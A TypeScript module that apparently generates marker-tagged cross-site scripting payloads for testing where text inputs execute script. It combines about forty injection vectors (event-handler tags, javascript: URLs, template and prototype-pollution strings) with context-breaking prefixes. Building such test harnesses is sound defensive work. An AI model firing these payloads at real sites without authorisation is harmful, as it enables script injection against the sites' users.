export const payloadCount = 200;

/** The shortest function name, because names of tags, queues and users are limited to fifty characters. */
const longest = 50;

/** Texts that run as a script where they are treated as markup, an attribute, an address or a template. */
const vectors: ((call: string) => string)[] = [
  (call) => `<img src=x onerror=${call}>`,
  (call) => `<script>${call}</script>`,
  (call) => `<svg onload=${call}>`,
  (call) => `<details open ontoggle=${call}>`,
  (call) => `<iframe srcdoc="<img src onerror=top.${call}>">`,
  (call) => `<iframe src=javascript:top.${call}>`,
  (call) => `<video src=x onerror=${call}>`,
  (call) => `<audio src=x onerror=${call}>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<style onload=${call}></style>`,
  (call) => `<img/src/onerror=${call}//`,
  (call) => `<ImG sRc=x OnErRoR=${call}>`,
  (call) => `<svg><style><img src onerror=${call}>`,
  (call) => `<math><mi xlink:href=javascript:${call}>x`,
  (call) => `<object data=javascript:${call}>`,
  (call) => `<embed src=javascript:${call}>`,
  (call) => `<a href=javascript:${call}>x</a>`,
  (call) => `<svg><a href=javascript:${call}>x</a>`,
  (call) => `<form action=javascript:${call}><button>`,
  (call) => `<base href=javascript:${call}//>`,
  (call) => `<meta http-equiv=refresh content=0;x:${call}>`,
  (call) => `<template><img src onerror=${call}>`,
  (call) => `<noscript><img src onerror=${call}>`,
  (call) => `javascript:${call}`,
  (call) => `JaVaScRiPt:${call}//https://a.br`,
  (call) => `data:text/html,<script>${call}</script>`,
  (call) => `https://a.br/"onmouseover="${call}`,
  (call) => `https://a.br/'onfocus='${call}`,
  (call) => `www.a.br/<img src onerror=${call}>`,
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `{{${call}}}`,
  (call) => `\${${call}}`,
  (call) => `$t(${call})`,
  (call) => `[x](javascript:${call})`,
  (call) => `" onmouseover=${call} x="`,
  (call) => `' autofocus onfocus=${call} x='`,
  (call) => `&lt;img src onerror=${call}&gt;`,
  (call) => `%3Cimg src onerror=${call}%3E`,
  (call) => `url(javascript:${call})`,
  (call) => `__proto__[${call}]`,
];

/** Prefixes that close the surrounding context first. */
const openings = ['', '">', "'>", '-->', '</b>', '*_', '```', '</p>', '\u202E', ']]>', '</a>', '\\">'];

/**
 * Two hundred texts that call `t` with a number if they ever run. Each place that accepts text has a thousand numbers
 * of its own, so that the number identifies the place of a payload.
 */
export function payloadsOf(place: number): string[] {
  const texts: string[] = [];
  for (const opening of openings) {
    for (const vector of vectors) {
      const text = opening + vector(`t(${place * 1_000 + texts.length})`);
      if (text.length <= longest && texts.length < payloadCount) texts.push(text);
    }
  }
  return texts;
}
